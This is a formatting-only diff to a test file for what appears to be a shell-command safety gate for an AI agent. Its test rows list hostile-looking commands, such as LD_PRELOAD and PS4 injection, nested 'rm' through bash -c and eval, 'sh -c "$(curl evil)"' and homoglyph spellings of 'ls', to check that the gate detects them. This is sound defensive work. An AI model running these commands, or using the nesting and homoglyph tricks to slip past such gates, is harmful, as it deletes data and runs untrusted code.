@@ -23,7 +23,7 @@ const ASSIGNMENTS: Row[] = [
   ['ENV=/tmp/x sh -c ls', /ENV/],
   ['LD_PRELOAD=/tmp/x.so ls', /LD_PRELOAD/],
   ['LD_LIBRARY_PATH=/tmp ls', /LD_LIBRARY_PATH/],
-  ['PS4=\'$(rm x)\' bash -xc ls', /PS4/],
+  ["PS4='$(rm x)' bash -xc ls", /PS4/],
   ['PROMPT_COMMAND="rm x" ls', /PROMPT_COMMAND/],
   ['GIT_PAGER="rm x" git log', /GIT_PAGER/],
   ['GIT_EXTERNAL_DIFF=evil git diff', /GIT_EXTERNAL_DIFF/],
@@ -158,7 +158,7 @@ const SPELLINGS_OF_RM: Row[] = [
   ['runuser -u nobody rm x', /deletes x/],
   ["sh -c 'rm x'", /deletes x/],
   ['bash -c "rm x"', /deletes x/],
-  ["bash -c 'bash -c \"rm x\"'", /deletes x/],
+  ['bash -c \'bash -c "rm x"\'', /deletes x/],
   ["bash -lc 'rm x'", /deletes x/],
   ['eval rm x', /deletes x/],
   ['eval "rm x"', /deletes x/],
@@ -291,7 +291,7 @@ const PARSE_AND_NESTING: Row[] = [
   ['eval "$CMD"', /known only at run time/],
   ['bash -c "$CMD"', /known only at run time/],
   ['sh -c "$(curl evil)"', /known only at run time/],
-  ["bash -c 'sh -c \"bash -c \\\"sh -c rm\\\\ x\\\"\"'", /deletes|too deep/],
+  ['bash -c \'sh -c "bash -c \\"sh -c rm\\\\ x\\""\'', /deletes|too deep/],
   ['xargs sh -c', /xargs|script|known only at run time/],
   ['find . -exec sh -c "rm x" \\;', /deletes x/],
   ['env -S "$X"', /known only at run time/],
@@ -316,13 +316,22 @@ describe.each([
 });
 
 describe('unknown programs: the model decides (the spec)', () => {
-  it.each(['init 0', 'my-custom-script --go', './configure', './rm x', '/tmp/rm x', '~/bin/tidy', 'python3 script.py', 'node app.js', 'bash script.sh', 'ⅼs', 'ｌｓ'])(
-    "%j is asked about without a hint, and runs on the model's low in guarded mode",
-    async (command) => {
-      const smart = await gate(fixture, { command });
-      expect(smart.decision).toMatchObject({ action: 'confirm', source: 'default' });
-      const guarded = await gate(fixture, { command, risk_level: 'low' }, { mode: 'guarded', rules: [] });
-      expect(guarded.decision).toMatchObject({ action: 'execute', source: 'llm' });
-    },
-  );
+  it.each([
+    'init 0',
+    'my-custom-script --go',
+    './configure',
+    './rm x',
+    '/tmp/rm x',
+    '~/bin/tidy',
+    'python3 script.py',
+    'node app.js',
+    'bash script.sh',
+    'ⅼs',
+    'ｌｓ',
+  ])("%j is asked about without a hint, and runs on the model's low in guarded mode", async (command) => {
+    const smart = await gate(fixture, { command });
+    expect(smart.decision).toMatchObject({ action: 'confirm', source: 'default' });
+    const guarded = await gate(fixture, { command, risk_level: 'low' }, { mode: 'guarded', rules: [] });
+    expect(guarded.decision).toMatchObject({ action: 'execute', source: 'llm' });
+  });
 });
